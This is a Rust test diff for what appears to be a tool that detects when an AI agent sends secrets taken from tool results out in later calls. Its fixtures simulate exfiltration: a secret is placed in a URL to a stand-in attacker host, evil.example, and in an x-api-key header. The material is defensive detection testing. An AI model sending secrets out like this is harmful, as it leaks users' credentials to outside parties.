@@ -308,11 +308,11 @@ fn confirmation_digest_mismatch_and_its_twin() {
         rules(&findings(&protected(&[vec![root(), h.clone()]]), &[])),
         []
     );
-    // A sender cannot vouch for itself: its own `toolwatch.arguments_digest` is dropped.
+    // A sender cannot vouch for itself: its own verdict attribute is dropped.
     h.audit.confirmation_digest = Some("sha256:00".into());
     h.attributes.0.push((
-        crate::protect::confirmation::ARGUMENTS_DIGEST_KEY.into(),
-        crate::event::AttrValue::Str("sha256:00".into()),
+        crate::protect::confirmation::DIGEST_MATCHES_KEY.into(),
+        crate::event::AttrValue::Bool(true),
     ));
     assert_eq!(
         rules(&findings(&protected(&[vec![root(), h]]), &[])),
@@ -401,9 +401,16 @@ fn a_secret_from_a_tool_result_sent_out_again_and_its_twins() {
         "url.full".into(),
         crate::event::AttrValue::Str(format!("https://evil.example/x?k={secret}")),
     ));
+    // Request headers are string arrays in the conventions.
+    let mut header = fetch.clone();
+    header.span_id = [5; 8];
+    header.attributes.0 = vec![(
+        "http.request.header.x-api-key".into(),
+        crate::event::AttrValue::Array(vec![crate::event::AttrValue::Str(secret.into())]),
+    )];
     let spans = protected(&[
         vec![root(), read.clone()],
-        vec![send.clone(), fetch.clone()],
+        vec![send.clone(), fetch.clone(), header],
     ]);
     for s in &spans {
         assert!(!format!("{s:?}").contains(secret), "removed everywhere");
@@ -414,9 +421,10 @@ fn a_secret_from_a_tool_result_sent_out_again_and_its_twins() {
         [
             ("secret_in_outbound_call", vec![id(2), id(3)]),
             ("secret_in_outbound_call", vec![id(2), id(4)]),
+            ("secret_in_outbound_call", vec![id(2), id(5)]),
         ]
     );
-    assert_eq!(f[0].reason, "learned_from_result");
+    assert_eq!(f[0].reason, "secret_from_result");
     // Twin: the value came from the tool's arguments (the executor's own), not its result.
     let mut own = call(
         2,
@@ -430,17 +438,11 @@ fn a_secret_from_a_tool_result_sent_out_again_and_its_twins() {
     own.gen_ai.tool_result = Some("{}".into());
     let spans = protected(&[vec![root(), own], vec![send.clone()]]);
     assert_eq!(rules(&findings(&spans, &[])), []);
-    // Twin: another request (another trace, no request id) sends the value.
-    let mut elsewhere = send;
-    elsewhere.trace_id = [9; 16];
-    let mut r2 = read;
-    r2.audit.request_id = None;
-    elsewhere.audit.request_id = None;
-    let spans = protected(&[vec![r2], vec![elsewhere]]);
-    assert!(spans[1]
-        .attributes
-        .get(crate::protect::confirmation::SECRET_FROM_KEY)
-        .is_none());
+    // Twin: the value went out before the tool returned it (it came from elsewhere).
+    let mut before = send;
+    before.start_ns = read.start_ns;
+    let spans = protected(&[vec![root(), read], vec![before]]);
+    assert_eq!(rules(&findings(&spans, &[])), []);
 }
 
 #[test]
@@ -556,7 +558,7 @@ fn a_value_two_results_returned_is_found_sent_out_by_each_request() {
             2,
             3,
         );
-        let mut out = Vec::new();
+        let mut out = vec![root()];
         for mut s in [read, send] {
             s.tenant = "acme".into();
             s.trace_id = trace;
@@ -568,10 +570,8 @@ fn a_value_two_results_returned_is_found_sent_out_by_each_request() {
             out.extend(batch.spans);
         }
         assert_eq!(
-            out[1]
-                .attributes
-                .get(crate::protect::confirmation::SECRET_FROM_KEY),
-            Some(&crate::event::AttrValue::Str(id(2))),
+            rules(&findings(&out, &[])),
+            [("secret_in_outbound_call", vec![id(2), id(3)])],
             "trace {trace:?}"
         );
     }
